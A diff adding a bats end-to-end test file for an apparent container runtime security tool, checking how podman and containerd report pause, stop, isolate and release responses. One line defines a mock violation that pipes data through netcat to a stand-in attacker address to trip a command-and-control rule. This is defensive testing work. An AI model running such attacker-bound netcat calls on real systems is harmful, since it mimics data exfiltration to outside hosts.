@@ -1,0 +1,99 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# What podman and containerd believe of a container that was responded to.
+
+load story
+# shellcheck source=tests/harness/engine_podman.sh
+source "$E2E_DIR/../harness/engine_podman.sh"
+# shellcheck source=tests/harness/engine_containerd.sh
+source "$E2E_DIR/../harness/engine_containerd.sh"
+
+setup_file() {
+  story_open
+  podman_open "$ROOTFS"
+  image_archive "$SCRATCH/shop.tar"
+  containerd_open
+  ctr images import "$SCRATCH/shop.tar"
+  cat >"$SCRATCH/rules/pause.yaml" <<END
+policies:
+  - name: Pause
+    rules: ["$C2_RULE"]
+    response: pause
+END
+}
+teardown_file() { story_close; }
+teardown() {
+  local id
+  podman_cli rm --all --force --time 0 >/dev/null || true
+  for id in $(ctr tasks ls -q); do ctr tasks rm --force "$id"; done
+  for id in $(ctr containers ls -q); do ctr containers rm "$id"; done
+  story_quiet
+}
+
+VIOLATION="echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
+
+podman_state() {
+  [[ $(podman_cli inspect --format '{{.State.Status}}' shop) == "$1" ]]
+}
+
+ctr_state() { ctr tasks ls | grep "^shop " | grep -q "$1"; }
+
+# podman_shop COMMAND...
+podman_shop() {
+  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
+  podman_run --runtime "$SVC/bailiff-runc" -- --detach --name shop \
+    --network "ns:$SCRATCH/netns/inside" registry.example/shop:1.4 "$@"
+}
+
+ctr_shop() {
+  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
+  ctr_run shop --detach --runc-binary "$SVC/bailiff-runc" \
+    --with-ns "network:$SCRATCH/netns/inside" -- "$@"
+}
+
+@test "podman knows of a pause and of its end" {
+  service "$SCRATCH/rules/pause.yaml"
+  podman_shop sh -c "$VIOLATION"
+  event "$C2_RULE" '.bailiff.outcome == "paused"'
+  wait_until 10 "podman to know" podman_state paused
+  run -0 bailiff_api resume shop
+  podman_state running
+}
+
+@test "podman stops it, so that no restart policy starts it again" {
+  service "$SCRATCH/rules/pause.yaml"
+  podman_shop sleep 300
+  run -0 bailiff_api stop shop --grace 1s
+  event "Response ended" '.bailiff.response == "stop"'
+  wait_until 10 "podman to know" podman_state exited
+}
+
+@test "podman: a container that is isolated is released" {
+  service "$SCRATCH/rules/pause.yaml"
+  podman_shop sleep 300
+  run -0 bailiff_api isolate shop
+  run podman_cli --runtime "$SVC/bailiff-runc" exec shop \
+    nc -w 2 "$HARMLESS4" 1389
+  says "Operation not permitted"
+  run -0 bailiff_api release shop
+  mapfile -d '' -t command < <(connects_to "$HARMLESS4")
+  run podman_cli --runtime "$SVC/bailiff-runc" exec shop "${command[@]}"
+  says reached
+}
+
+@test "containerd knows of a pause and of its end" {
+  service "$SCRATCH/rules/pause.yaml"
+  ctr_shop sh -c "$VIOLATION"
+  event "$C2_RULE" '.bailiff.outcome == "paused"'
+  wait_until 10 "containerd to know" ctr_state PAUSED
+  run -0 bailiff_api resume shop
+  ctr_state RUNNING
+}
+
+@test "containerd: stopped by a signal, and by a kill when that is ignored" {
+  service "$SCRATCH/rules/pause.yaml"
+  ctr_shop sleep 300
+  run -0 bailiff_api stop shop --grace 1s
+  event "Response ended" '.bailiff.outcome == "killed"'
+  wait_until 10 "containerd to know" ctr_state STOPPED
+}
